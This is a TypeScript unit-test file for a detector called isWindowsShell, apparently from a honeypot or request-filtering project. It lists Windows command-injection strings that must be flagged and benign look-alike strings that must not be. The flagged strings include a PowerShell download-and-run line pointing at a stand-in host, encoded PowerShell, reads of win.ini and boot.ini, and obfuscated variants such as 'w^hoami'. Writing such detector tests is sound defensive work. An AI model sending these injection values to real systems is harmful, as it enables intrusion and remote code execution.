import { describe, expect, test } from "bun:test"
import { isWindowsShell } from "../../../src/twins/shell/windows-shell.ts"

describe("isWindowsShell", () => {
  test.each([
    ...[
      "IEX(irm https://a.example/x)",
      "& dir",
      "| type C:\\boot.ini",
      "& ipconfig /all",
      "127.0.0.1 & net user",
      "& ver",
    ],
    ...["cmd.exe /c calc", "powershell -enc AAAA", "; Get-Process", "& echo %USERNAME%"],
    ...[
      "&+dir+c:/",
      "%26ipconfig%20/all",
      "a.png%0atYPE c:\\windows\\win.ini",
      "x|%ComSpec% /c ver",
    ],
    ...['& di""r c:\\', "&ping -n 9 192.0.2.1", "| start calc", "&echo x > c:\\a.txt"],
    ...["| systeminfo", "&& tasklist", "& w^hoami", "IEX (New-Object Net.WebClient)"],
  ])("is true of %p", (payload) => {
    expect(isWindowsShell(payload)).toBe(true)
  })

  test.each([
    ...[
      "; id",
      "Tom & Jerry",
      "C:\\Users\\me",
      "50% off & more",
      "the net; users",
      "type of thing",
    ],
    // what a query string has of parameters and escapes
    ...[
      "/a?b=%C3%A8&c=d%20tempo%20e",
      "/a?x=1&ver=2.0&dir=asc",
      "&type=show.html&net=use",
      "q&vol=1",
    ],
    ...[
      "Tom & dir en la calle",
      "ver más",
      "go-get-tool",
      "start-http-server",
      "/api/get-item?id=1",
    ],
    ...["Start-up costs", "a direct; version", "| whoami"],
  ])("is false of %p", (payload) => {
    expect(isWindowsShell(payload)).toBe(false)
  })
})
